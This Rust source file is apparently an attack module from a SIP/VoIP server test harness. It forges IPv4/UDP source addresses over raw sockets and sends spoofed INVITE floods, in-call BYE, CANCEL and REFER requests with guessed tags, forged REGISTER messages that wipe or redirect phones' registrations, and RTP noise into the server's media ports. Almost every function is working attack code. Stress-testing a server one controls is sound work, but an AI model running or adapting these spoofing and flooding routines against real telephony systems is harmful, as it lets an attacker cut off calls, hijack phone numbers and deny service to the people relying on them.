//! Hostile peers that bear the address of another: datagrams written whole, their IP head too (it takes root).

use super::{Field, request};
use anyhow::Context;
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

/// Datagrams a second.
const FLOOD: u32 = 8_000;
/// Those a second that are not to be taken for a flood.
const FEW: u32 = 100;
/// IPv4 and UDP heads.
const HEADS: usize = 28;

/// A socket that sends what bears any address.
struct Forge(Socket);

impl Forge {
    fn open() -> anyhow::Result<Forge> {
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)));
        raw.map(Forge).context("forging addresses takes root")
    }

    fn send(&self, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> anyhow::Result<()> {
        let datagram = datagram(from, to, payload)?;
        match self.0.send_to(&datagram, &SocketAddrV4::new(*to.ip(), 0).into()) {
            // What the system has no room for is lost, as on any line.
            Err(fault) if fault.raw_os_error() != Some(105) => Err(fault.into()),
            _ => Ok(()),
        }
    }
}

/// RFC 791 and RFC 768; the system fills in identification and checksum of IP, and UDP does without.
fn datagram(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> anyhow::Result<Vec<u8>> {
    let whole = u16::try_from(HEADS + payload.len())?.to_be_bytes();
    let length = u16::try_from(8 + payload.len())?.to_be_bytes();
    let (source, target) = (from.ip().octets(), to.ip().octets());
    let (source_port, target_port) = (from.port().to_be_bytes(), to.port().to_be_bytes());
    let ip = [&[0x45, 0][..], &whole, &[0, 0, 0, 0, 64, 17, 0, 0], &source, &target].concat();
    Ok([&ip[..], &source_port, &target_port, &length, &[0, 0], payload].concat())
}

fn v4(address: SocketAddr) -> anyhow::Result<SocketAddrV4> {
    match address {
        SocketAddr::V4(address) => Ok(address),
        SocketAddr::V6(_) => anyhow::bail!("addresses are forged in IPv4 only"),
    }
}

/// Calls from everywhere, each from another address.
///
/// # Errors
/// When addresses cannot be forged.
pub fn from_everywhere(field: &Field) -> anyhow::Result<u64> {
    let (forge, to) = (Forge::open()?, v4(field.sip)?);
    field.paced(2 * FLOOD, |number| {
        let host = Ipv4Addr::from_bits(0x7f80_0000 | (u32::try_from(number % 0x7f_ffff)?));
        let from = SocketAddrV4::new(host, 5060);
        let name = format!("everywhere-{number}");
        forge.send(from, to, request("INVITE", &to.to_string(), from.into(), "UDP", &name).as_bytes())
    })
}

/// Floods that bear the address and port of a registered phone.
///
/// # Errors
/// When addresses cannot be forged, or no phone is known.
pub fn from_a_phone(field: &Field) -> anyhow::Result<u64> {
    let (forge, to) = (Forge::open()?, v4(field.sip)?);
    // The last one: nobody talks on it, and who forges the very flow of a phone may harm that phone.
    let phone = v4(*field.phones.last().context("no phone is known")?)?;
    field.paced(FLOOD, |number| {
        let name = format!("phone-{number}");
        forge.send(phone, to, request("INVITE", &to.to_string(), phone.into(), "UDP", &name).as_bytes())
    })
}

/// Requests inside calls, with tags that are guessed, from the addresses of the phones that talk.
///
/// # Errors
/// When addresses cannot be forged, or no phone is known.
pub fn in_the_call_of_others(field: &Field) -> anyhow::Result<u64> {
    let (forge, to) = (Forge::open()?, v4(field.sip)?);
    anyhow::ensure!(!field.phones.is_empty(), "no phone is known");
    let methods = ["BYE", "CANCEL", "ACK", "INVITE", "UPDATE", "INFO", "REFER"];
    let phones = field.phones.iter().cycle();
    let mut turns = methods.iter().cycle().zip(phones);
    field.paced(FEW, |number| {
        let (method, phone) = turns.next().context("an endless turn")?;
        let phone = v4(*phone)?;
        let name = format!("call-{number}");
        let text = request(method, &to.to_string(), phone.into(), "UDP", &name);
        let text = text.replace("\r\nCall-ID", &format!(";tag=1{number:x}\r\nCall-ID"));
        forge.send(phone, to, text.as_bytes())
    })
}

/// Registrations of the phones' numbers elsewhere, and removals of all their contacts, from the addresses of the phones.
///
/// # Errors
/// When addresses cannot be forged, or no phone is known.
pub fn registrations(field: &Field) -> anyhow::Result<u64> {
    let (forge, to) = (Forge::open()?, v4(field.sip)?);
    anyhow::ensure!(!field.phones.is_empty(), "no phone is known");
    let mut turns = field.phones.iter().zip(&field.numbers).cycle();
    field.paced(FEW, |number| {
        let (phone, extension) = turns.next().context("an endless turn")?;
        let phone = v4(*phone)?;
        let own = format!("sip:{extension}@{}", to.ip());
        let contact =
            if number % 2 == 0 { "*".to_owned() } else { format!("<sip:{extension}@{}>", field.from) };
        let text = request("REGISTER", &to.ip().to_string(), phone.into(), "UDP", &format!("r-{number}"));
        let lines = text.lines().map(|line| match line.split(':').next() {
            Some("From") => format!("From: <{own}>;tag=f{number}"),
            Some("To") => format!("To: <{own}>"),
            Some("Contact") => format!("Contact: {contact}\r\nExpires: 0"),
            _ => line.to_owned(),
        });
        let text = lines.collect::<Vec<_>>().join("\r\n") + "\r\n\r\n";
        forge.send(phone, to, text.as_bytes())
    })
}

/// RTP into every port of the server's media: from a stranger's address, and from the phones' with another port.
///
/// # Errors
/// When addresses cannot be forged, or no phone is known.
pub fn media(field: &Field) -> anyhow::Result<u64> {
    let (forge, host) = (Forge::open()?, *v4(field.sip)?.ip());
    let phone = *v4(*field.phones.first().context("no phone is known")?)?.ip();
    let stranger = match field.from {
        std::net::IpAddr::V4(stranger) => stranger,
        std::net::IpAddr::V6(_) => anyhow::bail!("addresses are forged in IPv4 only"),
    };
    let mut ports = field.media.clone().cycle();
    field.paced(FLOOD / 2, |number| {
        let port = ports.next().context("no media port is known")?;
        let from = SocketAddrV4::new(if number % 2 == 0 { stranger } else { phone }, 9);
        let sequence = u16::try_from(number % 65_536)?.to_be_bytes();
        let time = u32::try_from(number * 160 % 0xffff_ffff)?.to_be_bytes();
        let noise = [0x2a_u8; 160];
        let packet = [&[0x80, 8][..], &sequence, &time, &[0, 0, 0, 7], &noise].concat();
        forge.send(from, SocketAddrV4::new(host, port), &packet)
    })
}
